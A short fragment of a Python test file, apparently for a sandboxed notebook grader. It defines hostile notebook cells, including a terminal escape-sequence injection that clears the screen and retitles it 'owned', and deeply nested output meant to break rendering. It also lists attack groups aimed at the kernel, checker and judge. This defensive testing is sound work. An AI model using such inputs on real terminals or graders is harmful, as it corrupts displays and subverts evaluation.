    ),
    Attack(
        "steers the terminal",
        cells=("print('\\x1b[2J\\x1b]0;owned\\x07')\nraise ValueError('\\x1b[31mred\\x1b[0m')",),
    ),
    Attack(
        "nests its output deeply",
        cells=(
            "from IPython.display import display\nvalue = {}\nfor _ in range(900):\n"
            "    value = {'x': value}\ndisplay({'application/json': value, 'text/plain': 'x'}, raw=True)",
        ),
        flagged=False,
    ),
]

ATTACKS = [
    *HARM,
    *NETWORK,
    *READING,
    *BREAKING_OUT,
    *STRUCTURE,
    *KERNEL,
    *CHECKER,
    *JUDGE,
    *SHOWING,
]
SAFE = SQUARE  # what honest neighbours hand in
